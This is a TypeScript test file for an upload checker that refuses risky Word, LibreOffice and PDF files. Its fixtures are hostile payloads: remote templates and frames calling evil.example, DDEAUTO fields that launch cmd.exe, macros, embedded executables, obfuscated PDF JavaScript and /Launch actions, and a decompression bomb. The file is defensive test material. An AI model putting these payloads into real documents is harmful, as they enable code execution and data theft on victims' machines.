import { deflateSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { strToU8, zipSync } from 'fflate';
import { renderDocx } from '../print/docx.js';
import { renderPdf } from '../print/pdf.js';
import { checkDocument } from './document-check.js';
import { pdfRisk } from './pdf-risks.js';

const PAPER = { title: 'Методичка', blocks: [{ kind: 'paragraph', text: 'Текст' }] } as never;
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

const types = (main = WORD) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const related = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}"${mode}/></Relationships>`;

/** A paper of Word with other files in it. */
function paper(files: Record<string, string | Uint8Array>): Buffer {
  const all = { '[Content_Types].xml': types(), 'word/document.xml': '<w:document xmlns:w="w"/>', ...files };
  const bytes = Object.entries(all).map(([name, file]) => [name, typeof file === 'string' ? strToU8(file) : file]);
  return Buffer.from(zipSync(Object.fromEntries(bytes) as Record<string, Uint8Array>));
}

const settings = (type: string, target: string) => ({ 'word/_rels/settings.xml.rels': related(type, target) });
const field = (...pieces: string[]) => ({
  'word/document.xml': `<w:document xmlns:w="w">${pieces.map((text) => `<w:instrText>${text}</w:instrText>`).join('')}</w:document>`,
});

describe('a document of an office', () => {
  it.each([
    ['a template elsewhere', settings('attachedTemplate', 'https://evil.example/a.dotm'), 'remote-parts'],
    ['a template of a neighbour', settings('attachedTemplate', '\\\\evil.example\\a.dotm'), 'remote-parts'],
    ['the same as an address', settings('attachedTemplate', 'file://evil.example/a.dotm'), 'remote-parts'],
    ['the same, spelt on', settings('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'), 'remote-parts'],
    ['an object elsewhere', settings('oleObject', 'mhtml:https://evil.example/a.html'), 'remote-parts'],
    ['a frame elsewhere', settings('frame', 'http://evil.example/'), 'remote-parts'],
    ['a picture elsewhere', settings('image', 'http://evil.example/a.png'), 'remote-parts'],
    ['a field that starts a program', field('DDEAUTO c:\\\\cmd.exe'), 'remote-parts'],
    ['the same in pieces', field('DDE', 'AUTO c:\\\\cmd.exe'), 'remote-parts'],
    ['macros', { 'word/vbaProject.bin': 'x' }, 'macros'],
    [
      'the type of macros',
      { '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') },
      'macros',
    ],
    ['an object of another program', { 'word/embeddings/oleObject1.bin': 'x' }, 'embedded-objects'],
    ['a file of its own', { 'word/embeddings/a.exe': 'MZ' }, 'embedded-objects'],
    ['a book with macros inside', { 'word/embeddings/a.xlsx': paper({ 'xl/vbaProject.bin': 'x' }) }, 'macros'],
    ['relations that are no XML', { 'word/_rels/settings.xml.rels': '<a' }, 'broken'],
    ['relations with entities', { 'word/_rels/a.rels': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }, 'broken'],
  ])('with %s is refused', async (_, files, refusal) => {
    expect(await checkDocument(paper(files), 'Письмо.docx')).toBe(refusal);
  });

  it.each([
    ['links for people', { 'word/_rels/document.xml.rels': related('hyperlink', 'https://example.ru/') }],
    ['a template of the author', settings('attachedTemplate', 'file:///C:\\Users\\Anna\\Normal.dotm')],
    ['the data of a chart', { 'word/embeddings/a.xlsx': paper({}) }],
    ['words about fields', field(' PAGE ', ' HYPERLINK "https://example.ru/dde" ')],
  ])('with %s is taken', async (_, files) => {
    expect(await checkDocument(paper(files), 'Письмо.docx')).toMatchObject({ ending: 'docx' });
  });

  it('of LibreOffice that fetches or runs something is refused, one with links is not', async () => {
    const made = (content: string) =>
      Buffer.from(
        zipSync({
          mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
          'content.xml': strToU8(`<o xmlns:xlink="l" xmlns:text="t" xmlns:draw="d">${content}</o>`),
        }),
      );
    const check = (content: string) => checkDocument(made(content), 'Письмо.odt');
    expect(await check('<draw:image xlink:href="https://evil.example/a.png"/>')).toBe('remote-parts');
    expect(await check('<text:event-listener xlink:href="vnd.sun.star.script:a"/>')).toBe('macros');
    expect(await check('<text:a xlink:href="https://example.ru/"/><draw:image xlink:href="Pictures/a.png"/>')).toEqual({
      mediaType: 'application/vnd.oasis.opendocument.text',
      ending: 'odt',
    });
  });
});

describe('a PDF', () => {
  const pdf = (body: string) => Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF`, 'latin1');
  const packed = (body: string, name = '/ObjStm', pack: (text: string) => Uint8Array = deflateSync) =>
    Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj << /Type ${name} /N 1 >>\nstream\n`),
      pack(body),
      Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF'),
    ]);

  it.each([
    ['a script', pdf('1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), 'scripts'],
    ['a script spelt in numbers', pdf('1 0 obj << /S /J#61vaScript >> endobj'), 'scripts'],
    ['a script without its kind', pdf('1 0 obj << /JS (app.alert(1)) >> endobj'), 'scripts'],
    ['a program', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj'), 'scripts'],
    ['an address at its opening', pdf('<< /OpenAction << /S /URI /URI (http://evil.example) >> >>'), 'scripts'],
    ['a form that is sent', pdf('<< /S /SubmitForm /F (http://evil.example) >>'), 'scripts'],
    ['a file inside', pdf('<< /Type /EmbeddedFile >>'), 'attachments'],
    ['a script among compressed objects', packed('<< /S /JavaScript /JS (x) >>'), 'scripts'],
    ['the same behind a name in numbers', packed('<< /S /JavaScript /JS (x) >>', '/Obj#53tm'), 'scripts'],
    ['objects packed in another way', packed('other bytes', '/ObjStm', (text) => Buffer.from(text)), 'locked'],
    ['a lock on compressed objects', Buffer.concat([packed('<< >>'), Buffer.from('<< /Encrypt 2 0 R >>')]), 'locked'],
  ])('with %s is refused', async (_, bytes, refusal) => {
    expect(await checkDocument(bytes, 'План.pdf')).toBe(refusal);
  });

  it.each([
    ['links', pdf('<< /S /URI /URI (https://example.ru) >>')],
    ['a page to open at', pdf('<< /OpenAction [3 0 R /Fit] /Names << /Dests 4 0 R >> >>')],
    ['compressed objects', packed('<< /Type /Page >>')],
    ['words about scripts', pdf('<< /Title (JavaScript, JS) >>')],
  ])('with %s is taken', async (_, bytes) => {
    expect(await checkDocument(bytes, 'План.pdf')).toMatchObject({ ending: 'pdf' });
  });

  it('and a paper as this application prints them are taken', async () => {
    expect(await checkDocument(await renderPdf(PAPER), 'План.pdf')).toMatchObject({ ending: 'pdf' });
    expect(await checkDocument(await renderDocx(PAPER), 'План.docx')).toMatchObject({ ending: 'docx' });
  });

  it('that unpacks without end is not unpacked', () => {
    expect(pdfRisk(packed('x'.repeat(60 * 1024 * 1024)))).toBe('locked');
  });
});
